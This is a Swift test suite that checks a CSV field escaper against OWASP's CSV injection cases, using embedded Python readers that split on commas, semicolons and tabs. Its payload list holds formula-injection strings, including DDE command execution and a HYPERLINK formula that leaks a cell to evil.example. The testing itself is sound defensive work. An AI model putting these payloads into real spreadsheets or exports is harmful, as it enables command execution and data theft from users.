import Foundation
import Testing

@testable import RepoWatchRender

/// OWASP's CSV injection cases (https://owasp.org/www-community/attacks/CSV_Injection), each alone
/// and behind every separator a spreadsheet may split on, read back the way spreadsheets read a CSV
/// file: Python's `csv` module splitting on `,`, on `;` (the default in many European locales) and on
/// tabs, honouring quotes only where it sees a cell start; and split on every separator at once,
/// quotes ignored. No cell may start (past spaces, quotes, tabs and line breaks) with a formula.
@Suite("CSV fields stay text in a spreadsheet splitting on `,`, `;` or tabs")
struct CSVInjectionTests {
    /// OWASP's examples, and the triggers alone.
    static let payloads = [
        "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Error: click\")", "\t=1+1", "\r=1+1",
        "=10+20+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\"=1+1\"", " =1+1", "=", "+", "-", "@", "\t", "\r",
    ]
    static let separators = [",", ";", "\t", "\r\n", "\n", "\r"]

    /// Each payload at a field's start and after each separator, after plain text, twice in a row.
    static let fields: [String] =
        payloads
        + payloads.flatMap { payload in separators.map { "Tools\($0)\(payload)" } }
        + ["Tools;=1+1;@SUM(1+1)", "a,b;c\td=1", ";;=1", ",\t=1", "x;\"=1\"", "plain; text, with - dashes"]

    static let reader = #"""
        import csv, io, json, re, sys
        text = open(sys.argv[1], encoding="utf-8", newline="").read()
        found = []
        def check(how, cell):
            # A tab or a carriage return first is a trigger when a formula follows it: a cell a
            # misaligned parser starts at a row's end begins with this file's own CRLF.
            rest = cell.lstrip(' "\t\r\n')
            if rest and rest[0] in "=+-@":
                found.append([how, cell])
        for name, delimiter in [("comma", ","), ("semicolon", ";"), ("tab", "\t")]:
            for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
                for cell in row:
                    check(name, cell)
        for cell in re.split(r'[,;\t\r\n]', text):
            check("any", cell)
        print(json.dumps(found))
        """#

    static func formulas(in csv: String) throws -> [[String]] {
        let file = FileManager.default.temporaryDirectory.appendingPathComponent("csv-\(UUID().uuidString).csv")
        try Data(csv.utf8).write(to: file)
        defer { try? FileManager.default.removeItem(at: file) }
        let run = try PythonRun.run(reader, [file.path])
        #expect(run.status == 0, "\(run.stderr)")
        return try JSONDecoder().decode([[String]].self, from: run.stdout)
    }

    @Test("every case, in one file of rows of three fields")
    func noCellIsAFormula() throws {
        let rows = Self.fields.map { field in
            [CSVField.text("left"), CSVField.text(field), CSVField.text(field)].joined(separator: ",") + "\r\n"
        }
        let found = try Self.formulas(in: rows.joined())
        #expect(found.isEmpty, "\(found)")
    }

    @Test("the file still reads back as the same fields, each with at most a `'` added where a cell could start")
    func fieldsReadBack() throws {
        let run = try PythonRun.run(
            #"""
            import csv, io, json, sys
            print(json.dumps(list(csv.reader(io.StringIO(sys.argv[1], newline=""), strict=True))))
            """#, [Self.fields.map { CSVField.text($0) + "\r\n" }.joined()])
        #expect(run.status == 0, "\(run.stderr)")
        let rows = try JSONDecoder().decode([[String]].self, from: run.stdout)
        #expect(rows.count == Self.fields.count)
        for (row, field) in zip(rows, Self.fields) {
            #expect(row.count == 1)
            #expect(row.first?.replacingOccurrences(of: "'", with: "") == field.replacingOccurrences(of: "'", with: ""))
        }
        #expect(CSVField.text("plain; text, with - dashes") == "\"plain; text, with - dashes\"")
        #expect(CSVField.text("Swift") == "Swift")
    }
}
